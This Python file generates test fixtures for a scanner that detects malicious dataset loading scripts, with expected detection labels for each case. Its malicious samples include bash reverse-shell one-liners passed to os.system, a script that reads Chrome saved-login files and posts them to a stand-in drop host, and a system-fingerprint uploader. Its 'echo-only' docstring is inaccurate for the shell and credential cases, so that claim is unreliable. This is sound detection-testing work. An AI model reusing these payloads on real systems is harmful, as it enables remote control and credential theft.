"""Loading-script fixtures: inert analogues of the three case studies.

Endpoints use reserved example.invalid hosts or TEST-NET addresses, every
command is echo-only, and each repo holds a single script named after the
repo directory (the primary-loading-script convention).
"""

from pathlib import Path

from fixturegen.manifest import FixtureEntry, FixtureManifest

# every script opens with a docstring so the leading byte can never be
# mistaken for a protocol-0 pickle opcode by magic sniffing

CASE1_REMOTE_CONTROL = '''\
"""Dataset preparation (fixture: the payload only echoes)."""
import os

COMMAND = "bash -i >& /dev/tcp/192.0.2.10/4455 0>&1"


def load_dataset():
    os.system(COMMAND)
    return []
'''

CASE1_ALIAS_VARIANT = '''\
"""Dataset preparation, alias-obfuscated variant (fixture)."""
import os as o

PAYLOAD = "bash -i >& /dev/tcp/192.0.2.11/4466 0>&1"


def load_dataset():
    o.system(PAYLOAD)
    return []
'''

CASE2_CREDENTIAL_THEFT = '''\
"""Dataset preparation (fixture: endpoint is a reserved test host)."""
import os

import requests

profile = os.environ.get("LOCALAPPDATA", "") + "/Google/Chrome/User Data"
with open(profile + "/Default/Login Data") as fh:
    logins = fh.read()
with open(profile + "/Local State") as sh:
    state = sh.read()
requests.post("https://drop.example.invalid/webhook", data={"l": logins, "s": state})
'''

CASE3_SYSTEM_RECON = '''\
"""Dataset preparation (fixture: uname is echoed, never run)."""
import platform
import subprocess

import requests

profile = platform.system() + "/" + platform.release()
kernel = subprocess.check_output(["echo", "uname -a"]).decode("ascii")
requests.post("https://telemetry.example.invalid/ingest", data={"os": profile, "uname": kernel})
'''

LOADER_BENIGN_JSON = '''\
"""Load the dataset from a JSON file next to the script."""
import json


def load_dataset(path="data.json"):
    with open(path, "r", encoding="utf-8") as fh:
        return json.load(fh)
'''

LOADER_BENIGN_CLEAN = '''\
"""Normalize the built-in sample rows."""


def normalize(rows):
    return [row.strip().lower() for row in rows]


def load_dataset(rows=("Alpha", "Beta")):
    return normalize(list(rows))
'''


def _flow(category: str, source_api: str, sink_api: str) -> dict:
    return {"category": category, "source_api": source_api, "sink_api": sink_api}


SCRIPT_CASES = [
    (
        "case1-remote-control",
        CASE1_REMOTE_CONTROL,
        FixtureEntry(
            path="",
            repo_kind="Dataset",
            label="Malicious",
            expected_findings=["UnsafeApi", "RuleMatch", "TaintFlow"],
            expected_flows=[_flow("RemoteControl", "pattern:reverse_shell", "os.system")],
            expected_behavior="RemoteControl",
            expected_verdict="Malicious",
            notes="shell one-liner literal reaches a command sink",
        ),
    ),
    (
        "case1-alias-variant",
        CASE1_ALIAS_VARIANT,
        FixtureEntry(
            path="",
            repo_kind="Dataset",
            label="Malicious",
            expected_findings=["UnsafeApi", "RuleMatch", "TaintFlow"],
            expected_flows=[_flow("RemoteControl", "pattern:reverse_shell", "os.system")],
            expected_behavior="RemoteControl",
            expected_verdict="Malicious",
            notes="same payload behind an import alias",
        ),
    ),
    (
        "case2-credential-theft",
        CASE2_CREDENTIAL_THEFT,
        FixtureEntry(
            path="",
            repo_kind="Dataset",
            label="Malicious",
            expected_findings=["UnsafeApi", "RuleMatch", "TaintFlow"],
            expected_flows=[
                _flow("SensitiveInfoLeak", "os.environ", "requests.post"),
                _flow("SensitiveInfoLeak", "pattern:chrome_credentials", "requests.post"),
            ],
            expected_behavior="CredentialTheft",
            expected_verdict="Malicious",
            notes="browser credential paths posted to a drop endpoint",
        ),
    ),
    (
        "case3-system-recon",
        CASE3_SYSTEM_RECON,
        FixtureEntry(
            path="",
            repo_kind="Dataset",
            label="Malicious",
            expected_findings=["UnsafeApi", "TaintFlow"],
            expected_flows=[
                _flow("SensitiveInfoLeak", "platform.system", "requests.post"),
                _flow("SensitiveInfoLeak", "platform.release", "requests.post"),
                _flow("SensitiveInfoLeak", "subprocess.check_output", "requests.post"),
            ],
            expected_behavior="SystemReconnaissance",
            expected_verdict="Malicious",
            notes="host fingerprint uploaded at import time",
        ),
    ),
    (
        "loader-benign-json",
        LOADER_BENIGN_JSON,
        FixtureEntry(
            path="",
            repo_kind="Dataset",
            label="Benign",
            expected_findings=["UnsafeApi"],
            expected_verdict="Clean",
            notes="plain file read, informational finding only",
        ),
    ),
    (
        "loader-benign-clean",
        LOADER_BENIGN_CLEAN,
        FixtureEntry(
            path="",
            repo_kind="Dataset",
            label="Benign",
            expected_verdict="Clean",
        ),
    ),
]


def gen_loading_scripts(outdir: Path, seed: int) -> FixtureManifest:
    outdir = Path(outdir)
    frag = FixtureManifest(seed=seed)
    for repo, source, entry in SCRIPT_CASES:
        repo_dir = outdir / repo
        repo_dir.mkdir(parents=True, exist_ok=True)
        (repo_dir / f"{repo}.py").write_text(source)
        entry.path = f"{repo}/{repo}.py"
        frag.fixtures.append(entry)
    return frag
